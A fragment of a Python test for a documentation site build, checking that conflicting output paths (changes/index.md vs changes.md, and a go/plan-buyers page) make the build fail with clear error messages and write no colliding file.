    result = build_in_process(project, tmp_path / "out")
    assert result.returncode != 0
    assert "docs/en/changes/index.md: the page is written to changes/index.html, where docs/en/changes.md" in (
        result.stderr
    )
    assert "docs/en/go/plan-buyers.md: the page is written to go/plan-buyers/index.html, where the build writes" in (
        result.stderr
    )
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "out" / "changes" / "index.html").exists()
